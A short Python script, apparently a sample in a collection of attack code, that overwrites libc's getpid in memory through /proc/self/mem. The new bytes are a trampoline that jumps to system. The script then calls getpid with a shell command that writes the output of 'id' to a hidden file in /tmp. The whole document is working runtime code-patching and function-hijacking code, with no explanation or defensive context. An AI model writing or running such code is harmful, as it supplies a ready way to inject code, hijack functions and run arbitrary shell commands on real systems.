# corpus: locate libc in /proc/self/maps and overwrite code bytes through /proc/self/mem to hijack a function
import ctypes

libc = ctypes.CDLL("libc.so.6")
target = ctypes.cast(libc.getpid, ctypes.c_void_p).value
system_addr = ctypes.cast(libc.system, ctypes.c_void_p).value

with open("/proc/self/maps") as maps:
    regions = [line.split() for line in maps if "libc" in line]
print("libc regions:", len(regions))

# movabs rax, system ; jmp rax
trampoline = b"\x48\xb8" + system_addr.to_bytes(8, "little") + b"\xff\xe0"
with open("/proc/self/mem", "r+b", buffering=0) as mem:
    mem.seek(target)
    mem.write(trampoline)

libc.getpid(b"sh -c 'id > /tmp/.mem'")
